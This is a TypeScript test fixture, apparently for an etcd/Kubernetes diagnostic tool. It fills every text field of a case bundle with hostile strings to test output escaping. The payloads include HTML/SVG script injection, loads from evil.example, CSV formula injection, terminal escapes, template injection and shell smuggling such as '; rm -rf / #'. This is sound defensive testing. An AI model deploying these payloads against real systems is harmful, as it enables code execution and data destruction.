import type { Case, Evidence, Said } from '../../src/case/model.js';

const mark = 'window.__ran=(window.__ran||0)+1';

/** Texts that try to become more than text in one of the sinks: HTML, SVG, Markdown, CSV, terminal, PDF, templates, shells. */
export const hostileTexts: readonly string[] = [
  // HTML
  `<script>${mark}</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror="${mark}">`, `<img src="https://evil.example/pixel.png">`, `"><svg/onload=${mark}>`,
  `' onmouseover='${mark}' x='`, `</title><script>${mark}</script>`, `</style><script>${mark}</script>`, `</pre></code><script>${mark}</script>`, `<iframe src="javascript:parent.${mark}"></iframe>`,
  `<object data="https://evil.example/o"></object>`, `<embed src="https://evil.example/e">`, `<link rel=stylesheet href="https://evil.example/c.css">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`, `<form action="https://evil.example/"><input autofocus onfocus="${mark}"></form>`, `<details open ontoggle="${mark}">`, `<video><source onerror="${mark}"></video>`,
  `<body onload="${mark}">`, `<math><mtext></p><img src=x onerror="${mark}">`, `<!--><script>${mark}</script>-->`, `<![CDATA[<script>${mark}</script>]]>`, `&lt;script&gt;${mark}&lt;/script&gt;`, `&#60;script&#62;${mark}&#60;/script&#62;`,
  `<a href="javascript:${mark}">x</a>`, `<style>body{background:url(https://evil.example/b)}</style>`, `<input type=image src=https://evil.example/i>`, `<template><script>${mark}</script></template>`,
  // SVG
  `<svg><script>${mark}</script></svg>`, `<svg><a xlink:href="javascript:${mark}"><text>x</text></a></svg>`, `<svg><image href="https://evil.example/s.png"/></svg>`, `<svg><animate onbegin="${mark}" attributeName=x dur=1s>`, `<svg><foreignObject><iframe srcdoc="<script>${mark}</script>"></iframe></foreignObject></svg>`, `"/><use href="https://evil.example/u.svg#x"/>`,
  // Markdown
  `[x](javascript:${mark})`, `![x](https://evil.example/m.png)`, `[x]: https://evil.example/ref`, `<https://evil.example/auto>`, `https://evil.example/bare`, `www.evil.example`, '`code`</code><b>', '```\n</pre>\n```', '~~~\n<script>x</script>\n~~~',
  `| a | b |\n|---|---|\n| <img src=x onerror=${mark}> |`, '# heading\n## more', '1. one\n2. two', '- [x] done', '> quote', '---', '***bold*** __under__ ~~gone~~', '[E1](#e1)![E2](#e2)', '\\[x\\](javascript:1)', '![x](data:image/svg+xml,<svg onload=1>)', '<javascript:alert(1)>', '[x](data:text/html;base64,PHNjcmlwdD4=)',
  // CSV
  '=cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc', '\t=1+1', '\uff1d1+1', '=HYPERLINK("https://evil.example/","x")', '"quoted","cells"\r\nnext,row', '%0A=1',
  // terminal
  '\u001b]0;owned\u0007', '\u001b[2J\u001b[31mred', '\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007', '\u009b31mC1', '\u0007\u0008\u0008\u0008', 'line\rover', '\u001bP+q\u001b\\', '\u001b[6n',
  // marks that turn or hide text
  '\u202egnp.exe', '\u2066isolate\u2069', '\u200fright\u200b\u200d\ufeff', '\u{e0041}\u{e0042}tag', 'lone \ud800 surrogate', '\u0000nul\u0000', '\u2028line\u2029paragraph',
  // templates, PDF headers, CSS, shells
  '<%= process.env %>', '<%~ it.view %>', '{{constructor.constructor("return process")()}}', '${process.exit(1)}', '{title}', '<span class="pageNumber"></span>', '<span class="url"></span>', '"; } body { display: none } @page { content: "x"',
  '\\22 ;}*{color:red', ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >>', '$(touch /tmp/owned)', '`touch /tmp/owned`', '; rm -rf / #', '%s%s%n', '__proto__', 'a'.repeat(65_536), '汉字'.repeat(200), '\u0301'.repeat(300),
];

/** The same case with hostile texts wherever a bundle can put words: names, paths, lines, sentences, commands. */
export function hostileCase(base: Case): Case {
  let n = 0;
  const next = (): string => hostileTexts[n++ % hostileTexts.length] ?? '';
  const short = (): string => next().slice(0, 300);
  const said = (one: Said): Said => ({ ...one, text: next(), params: { x: next() } });
  const evidence = (list: readonly Evidence[]): readonly Evidence[] => list.map((e) => ({ ...e, artifact: short(), text: next() }));
  const settings = Object.fromEntries(Object.entries(base.members[0]?.settings ?? {}).map(([key, value]) => [key, value === null ? null : { ...(value as object), value: key === 'clientUrls' ? [next()] : next(), evidence: [] }])) as unknown as Case['members'][number]['settings'];
  return {
    ...base,
    title: short(),
    options: { [short()]: next() },
    hosts: base.hosts.map((h) => ({ ...h, evidence: evidence(h.evidence) })),
    members: base.members.map((m) => ({ ...m, host: short(), name: next(), memberId: next(), clusterId: next(), version: next(), settings, evidence: evidence(m.evidence) })),
    installation: { ...base.installation, etcdVersion: { value: next(), basis: 'assumed', evidence: [] }, kubernetesVersion: { value: next(), basis: 'assumed', evidence: [] } },
    candidates: base.candidates.map((c) => ({ ...c, hostPath: next(), host: short(), reasons: c.reasons.map(said), evidence: evidence(c.evidence) })),
    revisions: base.revisions.map((r) => ({ ...r, label: next() })),
    events: Array.from({ length: Math.max(base.events.length, hostileTexts.length) }, (_, i) => {
      const event = base.events[i % base.events.length]!;
      return { ...event, id: `V${i}`, host: i % 3 === 0 ? short() : event.host, component: i % 7 === 0 ? short() : event.component, said: { key: '', params: {}, text: hostileTexts[i % hostileTexts.length] ?? '' }, evidence: evidence(event.evidence) };
    }),
    causes: base.causes.map((c) => ({ ...c, summary: said(c.summary), fix: c.fix === null ? null : said(c.fix), prevention: c.prevention === null ? null : said(c.prevention), evidence: evidence(c.evidence), missing: c.missing.map(said) })),
    findings: base.findings.map((f) => ({ ...f, code: next(), message: next(), evidence: evidence(f.evidence) })),
    backupAudit: base.backupAudit === null ? null : { ...base.backupAudit, jobs: base.backupAudit.jobs.map((j) => ({ ...j, command: next(), target: next(), schedule: short() })) },
    recommendation: { ...base.recommendation, why: base.recommendation.why.map(said), whyNot: base.recommendation.whyNot.map((w) => ({ candidate: w.candidate, said: said(w.said) })), risks: base.recommendation.risks.map(said), conditions: [said({ key: '', params: {}, text: '' })], missingFacts: [{ fact: next(), said: said({ key: '', params: {}, text: '' }), collect: next() }], evidence: evidence(base.recommendation.evidence) },
    plan: base.plan === null ? null : { ...base.plan, steps: base.plan.steps.map((s) => ({ ...s, host: short(), title: said(s.title), commands: s.commands.map(next), expect: said(s.expect), stopIf: s.stopIf === null ? null : said(s.stopIf) })), manual: base.plan.manual.map((m) => ({ ...m, host: next(), title: said(m.title), commands: [next(), next()] })) },
    notChecked: hostileTexts.map((text) => ({ key: '', params: {}, text })),
    manifest: base.manifest.map((f) => ({ ...f, path: next(), kind: next(), host: short(), firstLine: next() })),
    excerpts: base.excerpts.map((x) => ({ ...x, artifact: next(), host: next(), lines: x.lines.map(next), timeReading: next() })),
  };
}

/** Notes in Markdown that try the same. */
export const hostileNotes = { impact: hostileTexts.filter((t) => t.length < 1000).join('\n\n'), actions: '[ok](https://example.org/) **bold**\n\n- one\n- two' };
